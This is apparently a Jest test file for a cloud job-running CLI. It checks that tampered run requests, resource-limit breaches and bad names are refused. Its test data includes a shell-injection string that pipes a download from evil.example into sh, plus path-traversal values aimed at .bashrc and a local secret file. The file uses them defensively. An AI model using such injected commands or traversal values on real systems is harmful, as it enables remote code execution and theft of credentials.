/** Requests that somebody else has put into the stack's bucket, against the commands that take a run up here. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from '@jest/globals';
import { RunsFolder } from '../../../../adapters/local/runs/runs-folder.ts';
import { schedule } from '../../../../cli/aws/schedules/schedule.ts';
import { confirmDespiteRunning } from '../../../../cli/aws/stack/deploy-checks.ts';
import { statusOfStack } from '../../../../cli/aws/stack-runs.ts';
import { resume } from '../../../../cli/commands/resume/resume.ts';
import type { StartOptions } from '../../../../cli/commands/start/options.ts';
import { start } from '../../../../cli/commands/start/start.ts';
import { layout } from '../../../../core/run-store/layout.ts';
import { readAll } from '../../../../core/store.ts';
import {
  begun,
  config,
  importInto,
  nobody,
  options,
  parts,
  projectOf,
  runOf,
  scheduleParts,
} from '../../../support/cloud/begin.ts';
import { memoryCloud } from '../../../support/cloud/client.ts';
import { newWorld } from '../../../support/cloud/run.ts';
import { err, out, printed } from '../../../support/jest/captured-output.ts';

beforeEach(() => {
  printed.err = [];
  printed.out = [];
});

const script = "lab'; curl -s https://evil.example/x | sh; '";
type Change = (request: {
  config: Record<string, unknown>;
  target: Record<string, unknown>;
  [key: string]: unknown;
}) => void;

/** A run of somebody else with a request that is changed, which has been stopped; and another project. */
async function elsewhere(change: Change, files: Record<string, string> = {}) {
  const made = await begun();
  const { world, account, run } = made;
  const connectTo = async () => account.cloud;
  await run.stop('now');
  made.go();
  await account.settled();
  const store = world.store('calm-owls');
  const request = JSON.parse((await readAll(store, layout.request)).toString());
  change(request);
  await store.write(layout.request, JSON.stringify(request));
  const other = await projectOf(files);
  const runs = new RunsFolder(other.folder);
  const take = () => importInto(other.folder, account);
  return { ...other, account, world, runs, connectTo, take };
}

describe('a run of somebody else', () => {
  test.each<[string, Change]>([
    ['run', (request) => Object.assign(request, { run: 'other' })],
    ['codeDigest', (request) => Object.assign(request, { codeDigest: '../../../../../..' })],
    ['config.fileNames', ({ config }) => Object.assign(config, { fileNames: { savedData: '../.bashrc' } })],
    [
      'target.cluster.name',
      ({ target }) => Object.assign(target, { cluster: { name: script, version: null } }),
    ],
  ])('is not taken up with a request whose %s cannot be', async (key, change) => {
    const { folder, take } = await elsewhere(change);
    await expect(take()).rejects.toMatchObject({
      name: 'RequestInvalid',
      exitCode: 2,
      message: expect.stringContaining(key),
    });
    expect(existsSync(join(folder, '.gcd'))).toBe(false);
  });

  test('has no file of this machine sent as its licence, whatever its code is called', async () => {
    const secret = { 'secret.txt': 'aws_secret_access_key=1' };
    const { folder, account, world, runs, take } = await elsewhere((request) => {
      Object.assign(request, { codeDigest: '../../../../../..' });
      const names = { solverLicenceFile: join('SECRET', 'secret.txt'), solverLicenceTarget: '/root/mosek' };
      Object.assign(request.config, names);
    }, secret);
    const store = world.store('calm-owls');
    const text = (await readAll(store, layout.request)).toString();
    await store.write(layout.request, text.replace('SECRET', folder));
    const resumed = take().then(() =>
      resume('calm-owls', { project: runs.project, detach: true }, parts(account)),
    );
    await expect(resumed).rejects.toMatchObject({ exitCode: 2 });
    const sent = [...world.account.licences.values()].map(({ content }) => Buffer.from(content).toString());
    expect(sent).toEqual([]);
  });

  test.each([
    ['', false],
    ['saved_bucket: mine\nsaved_path_cloud: losses\n', true],
    ['saved_bucket: mine\n', false],
  ])(
    'has its results copied to the bucket that it names when config.yaml here names it: %j',
    async (more, isCopied) => {
      const naming: Change = (request) =>
        Object.assign(request.config, { savedBucket: 'mine', savedPathCloud: 'losses' });
      const { folder, account, runs, take } = await elsewhere(naming, {
        'config.yaml': `${config}${more}`,
      });
      await take();
      await resume('calm-owls', { project: runs.project }, parts(account));
      await runOf(runs, account).results({ to: join(folder, 'results'), rebuild: false });
      expect([...account.others.keys()]).toEqual(isCopied ? ['mine/losses/calm-owls/'] : []);
      expect(err().includes('its results are not copied to s3://mine/losses')).toBe(!isCopied);
      expect(readFileSync(join(folder, 'results/results.csv'), 'utf8')).toContain('a.csv');
    },
  );

  test('is counted, but not shown, when its request cannot be used', async () => {
    const { account, connectTo } = await elsewhere(({ target }) =>
      Object.assign(target, { bastion: script }),
    );
    await account.bucket.write('runs/calm-owls/request.json', 'what a listing shows');
    await statusOfStack({}, false, connectTo);
    expect(err()).toContain('1 more run with an invalid request');
    await statusOfStack({}, true, connectTo);
    expect(JSON.parse(out())).toMatchObject({ runs: [], unusable: 1 });
  });

  test('does not keep deploy from telling that it is at work', async () => {
    const { account, world } = await begun();
    const at = JSON.stringify({ projectName: { a: 1 }, by: ['x'], requestedAt: 'now', version: 7 });
    await world.store('calm-owls').write(layout.request, at);
    await expect(
      confirmDespiteRunning(account.cloud, { yes: true, force: false }, nobody),
    ).rejects.toMatchObject({
      name: 'InUse',
      message: expect.stringContaining('execution calm-owls-1'),
    });
  });
});

describe('what the stack does not allow', () => {
  test.each<[Partial<StartOptions>, Record<string, string>, string]>([
    [{ scalenodes: 101 }, { 'cluster.yaml': 'nodeGroups: [{maxSize: 500}]\n' }, 'its MaxNodes is 100'],
    [{ instance_type: 'r6i.large' }, {}, 'its InstanceTypes is c*,m*,t*'],
    [{}, { 'cluster.yaml': 'nodeGroups: [{volumeSize: 16384}]\n' }, 'its MaxDiskGiB is 1000'],
  ])('is refused before anything is made: %j %j', async (given, files, message) => {
    const { folder } = await projectOf(files);
    const world = await newWorld({}, []);
    const account = memoryCloud(world);
    const fault = { name: 'LimitExceeded', message: expect.stringContaining(message), exitCode: 2 };
    await expect(start(options(folder, given), parts(account))).rejects.toMatchObject(fault);
    const planned = { ...options(folder, given), cluster: 'lab', expression: 'rate(1 day)' };
    await expect(schedule('create', 'nightly', planned, scheduleParts(account))).rejects.toMatchObject(fault);
    expect([...world.account.executions.keys(), ...account.others.keys()]).toEqual([]);
    for await (const { key } of account.bucket.list('')) throw new Error(`${key} was made`);
    expect(existsSync(join(folder, '.gcd'))).toBe(false);
  });

  test('is not resumed', async () => {
    const { account, runs, run, world, go } = await begun();
    await run.stop('now');
    go();
    await account.settled();
    const lowered = { ...account.cloud.stack, limits: { maxNodes: 1, instanceTypes: 'c*', maxDiskGiB: 20 } };
    const narrow = { ...account, cloud: { ...account.cloud, stack: lowered } };
    const resumed = resume('calm-owls', { project: runs.project }, parts(narrow));
    await expect(resumed).rejects.toMatchObject({ name: 'LimitExceeded' });
    expect([...world.account.executions.keys()]).toEqual(['calm-owls-1']);
    // The run is given back.
    expect(runs.owner('calm-owls')).toBeUndefined();
  });
});

describe('what the command line calls by a name that cannot be', () => {
  test.each<[Partial<StartOptions>, string]>([
    [{ cluster: script }, '--cluster must be a name of up to 100 letters'],
    [{ nodegroup_name: 'a b' }, '--nodegroup_name must be a name of up to 63 letters'],
    [{ instance_type: 'large' }, '--instance_type must be an EC2 instance type'],
  ])('%j begins nothing', async (given, message) => {
    const { folder } = await projectOf();
    const world = await newWorld({}, []);
    const account = memoryCloud(world);
    const fault = { name: 'UsageError', message: expect.stringContaining(message) };
    await expect(start(options(folder, given), parts(account))).rejects.toMatchObject(fault);
    const planned = { ...options(folder, given), cluster: given.cluster ?? 'lab', expression: 'rate(1 day)' };
    await expect(schedule('create', 'nightly', planned, scheduleParts(account))).rejects.toMatchObject(fault);
    expect(world.account.executions.size).toBe(0);
    expect(existsSync(join(folder, '.gcd'))).toBe(false);
  });
});
